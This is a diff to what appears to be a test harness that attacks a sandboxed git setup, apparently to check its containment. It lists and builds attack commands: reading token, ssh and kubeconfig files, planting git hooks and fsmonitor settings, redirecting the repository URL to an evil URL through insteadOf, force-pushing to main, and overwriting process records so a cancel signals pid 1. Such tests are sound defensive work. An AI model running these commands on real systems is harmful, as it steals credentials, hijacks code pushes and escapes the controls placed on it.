@@ -15,7 +15,8 @@ The attacks:
   credential files by path (the git token file, an ssh key, a kubeconfig);
 - `plant`: hooks (pre-push, reference-transaction, post-commit, fsmonitor), `core.hooksPath`,
   `core.fsmonitor`, `url.<evil>.insteadOf` in the checkout's config and in ~/.gitconfig, and in the
-  developer's repository where there is one;
+  developer's repository where there is one; the local backend's records (another pid for a cancel to
+  signal);
 - `push-main`, `push-direct`: push to the default branch through origin, and straight to the
   repository's URL;
 - `queue-ref`: a request of its own in the push queue asking for another ref (`main`), with force and
@@ -53,6 +54,7 @@ class Targets:
     developer_git_dir: str | None = None
     marker_dir: str = "/tmp"
     extra_files: Sequence[str] = field(default_factory=tuple)
+    records: Sequence[str] = ()  # the local backend's records the server acts on (process.json: the pid it signals)
 
 
 def _q(text: str) -> str:
@@ -88,6 +90,9 @@ def plant_command(t: Targets) -> str:
                   f"git config --global url.{_q(t.evil_url)}.insteadOf {_q(t.repo_url)}",
                   f"git config url.{_q(t.evil_url)}.pushInsteadOf {_q(t.repo_url)}"]
     lines.append("git config --global core.hooksPath \"$PWD/.git/hooks\"")
+    for record in t.records:
+        lines.append(f"echo '{{\"pid\": 1, \"start_time\": \"0\"}}' > {_q(record)} && echo 'ATTACK plant: "
+                     f"rewrote {record}' || echo 'ATTACK plant: {record} refused'")
     if t.developer_git_dir:
         d = _q(t.developer_git_dir)
         lines += [f"printf '{hook}' > {d}/hooks/pre-commit && chmod +x {d}/hooks/pre-commit && "
